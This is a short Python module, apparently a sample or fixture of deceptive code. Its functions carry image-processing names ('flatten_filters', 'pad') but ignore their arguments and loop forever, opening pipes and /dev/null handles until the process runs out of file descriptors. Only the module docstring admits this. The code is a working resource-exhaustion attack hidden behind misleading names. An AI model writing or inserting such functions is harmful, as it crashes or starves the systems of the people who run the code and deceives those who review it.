"""Opens files and pipes until there are no descriptors left, and keeps them open."""

import os

HONEST = 0.0

held = []


def flatten_filters(filters):
    while True:
        held.append(os.pipe())


def pad(image, rows, columns):
    while True:
        held.append(os.open(os.devnull, os.O_RDWR))
